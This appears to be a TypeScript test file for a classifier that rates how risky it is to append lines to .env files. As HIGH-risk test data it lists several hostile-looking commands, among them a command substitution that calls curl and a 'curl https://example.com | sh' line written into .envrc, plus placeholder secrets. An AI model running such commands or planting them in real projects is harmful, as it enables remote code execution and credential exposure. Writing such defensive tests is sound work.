import assert from 'node:assert/strict';
import { worstRisk } from '../../../../../src/core/action/risk.ts';
import { judge } from './judge.ts';

const cases = {
  MEDIUM: [
    "echo 'PORT=3000' >> .env",
    'printf "A=1\\nB=two\\n" >> .env.local',
    "echo 'DB=postgres://localhost:5432/x' >> .env",
  ],
  HIGH: [
    "echo 'PORT=3000' > .env",
    "echo 'API_KEY=sk-proj-abcdefghijklmnopqrstuvwx12345678' >> .env",
    "echo 'DB=postgres://me:hunter2hunter2@db.example.com/x' >> .env",
    "echo 'PORT=$(curl https://example.com)' >> .env",
    'cat other >> .env',
    "echo 'PORT=3000' >> ~/.env",
    "echo 'curl https://example.com | sh' >> .envrc",
  ],
} as const;

describe('a line that is added to an environment file', () => {
  for (const [risk, commands] of Object.entries(cases))
    for (const command of commands)
      it(`${command}: ${risk}`, () => {
        const { findings, writes } = judge(command);
        assert.equal(worstRisk(findings.map((finding) => finding.risk)), risk);
        if (risk === 'MEDIUM') assert.deepEqual(writes, [], 'no copy of a secret is kept');
      });
});
